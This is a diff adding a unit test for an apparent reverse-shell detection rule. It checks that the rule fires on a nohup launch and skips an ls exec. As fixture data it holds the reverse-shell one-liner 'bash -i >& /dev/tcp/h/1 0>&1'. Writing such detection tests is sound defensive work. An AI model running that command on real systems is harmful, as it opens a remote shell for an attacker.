@@ -123,6 +123,16 @@ describe("seed rule: Potential Reverse Shell via Background Process", () => {
     expect(loaded!.rule!.compiled.fields).toContain("process.parent.name");
   });
 
+  it("an exec of another program is decided without building its ECS document", () => {
+    expect([...loaded!.rule!.compiled.requiredValues("process.name")!.values].sort()).toEqual(["nohup", "setsid"]);
+    let lookups = 0;
+    const counting: ProcessView = { get: (pid) => (lookups++, shellParent.get(pid)), ancestors: () => [] };
+    expect(fires(execEvent("/usr/bin/ls", ["ls", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(false);
+    expect(lookups).toBe(0);
+    expect(fires(execEvent("/usr/bin/nohup", ["nohup", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"]), counting)).toBe(true);
+    expect(lookups).toBeGreaterThan(0);
+  });
+
   it("loadBuiltinElasticRules includes it", () => {
     expect(loadBuiltinElasticRules().map((r) => r.meta.id)).toContain(SEED_ID);
   });
